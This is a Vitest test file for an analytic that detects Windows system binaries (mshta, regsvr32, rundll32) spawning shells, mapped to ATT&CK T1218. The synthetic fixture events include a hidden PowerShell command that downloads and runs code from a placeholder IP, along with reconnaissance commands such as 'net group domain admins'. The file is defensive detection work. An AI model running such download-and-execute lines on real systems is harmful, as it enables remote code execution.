import { describe, expect, it } from 'vitest';
import type { Event } from '../../core/index.js';
import { createProxyExecutionAnalytic } from './proxy-execution.js';
import { at, windowsEvent } from './test-events.js';

// Written from ATT&CK T1218 (signed binaries made to run a payload: mshta, regsvr32, rundll32…)
// and from what those programs do for their own work, not from any recording.
const start = '2025-08-04T15:00:00Z';
let offset = 0;
const started = (parent: string, child: string, commandLine: string, host = 'ws50'): Event => {
  offset += 1_000;
  return windowsEvent(
    at(start, offset),
    '1',
    host,
    {
      Image: `C:\\Windows\\System32\\${child}`,
      ParentImage: `C:\\Windows\\System32\\${parent}`,
      CommandLine: commandLine,
    },
    {
      action: 'process-created',
      process: { name: child, commandLine, parent: { name: parent, executable: `C:\\Windows\\System32\\${parent}` } },
      origin: { format: 'windows-json', dataset: 'Microsoft-Windows-Sysmon/Operational' },
    },
  );
};
const run = (events: Event[]) => {
  const analytic = createProxyExecutionAnalytic();
  return events.flatMap((event) => analytic.process(event));
};

describe('system binary proxies starting a shell', () => {
  it('reports mshta, regsvr32 and rundll32 starting cmd or PowerShell, with the proxy’s technique, once each', () => {
    const alerts = run([
      started('mshta.exe', 'cmd.exe', '"C:\\Windows\\System32\\cmd.exe" /c whoami > %TEMP%\\o.txt'),
      started('mshta.exe', 'cmd.exe', '"C:\\Windows\\System32\\cmd.exe" /c hostname'),
      started('regsvr32.exe', 'powershell.exe', 'powershell.exe -nop -w hidden -c "IEX (iwr http://203.0.113.9/a)"'),
      started('rundll32.exe', 'cmd.exe', 'cmd.exe /c net group "domain admins" /domain', 'ws51'),
    ]);
    expect(alerts.map((alert) => alert.techniques)).toEqual([['T1218.005'], ['T1218.010'], ['T1218.011']]);
    expect(alerts[0]!.description).toContain('whoami');
  });

  it('does not report the proxies doing their own work, nor script hosts, installers or consoles starting shells', () => {
    const alerts = run([
      started('rundll32.exe', 'control.exe', 'control.exe /name Microsoft.NetworkAndSharingCenter'),
      started('regsvr32.exe', 'regsvr32.exe', 'regsvr32.exe /s C:\\Program Files\\Vendor\\plugin.dll'),
      started('cscript.exe', 'cmd.exe', 'cmd.exe /c ipconfig /all >> config\\envinfo.txt'),
      started('wscript.exe', 'cmd.exe', 'cmd.exe /c net use H: \\\\files\\home'),
      started('msiexec.exe', 'cmd.exe', 'cmd.exe /c "C:\\Program Files\\Vendor\\postinstall.cmd"'),
      started('explorer.exe', 'powershell.exe', 'powershell.exe'),
    ]);
    expect(alerts).toEqual([]);
  });

  it('keeps its state bounded with a million hosts', () => {
    const analytic = createProxyExecutionAnalytic({ limits: { keys: 1_000 } });
    const event = started('mshta.exe', 'cmd.exe', 'cmd.exe /c calc');
    let reported = 0;
    for (let index = 0; index < 1_000_000; index++) {
      // Every hundredth a proxy starting a shell on a new host; the rest an ordinary process.
      event.host = { name: `ws${index}` };
      event.process!.parent!.name = index % 100 === 0 ? 'mshta.exe' : 'explorer.exe';
      reported += analytic.process(event).length;
    }
    expect(analytic.stateKeys()).toBe(1_000);
    expect(reported).toBe(10_000);
  });
});
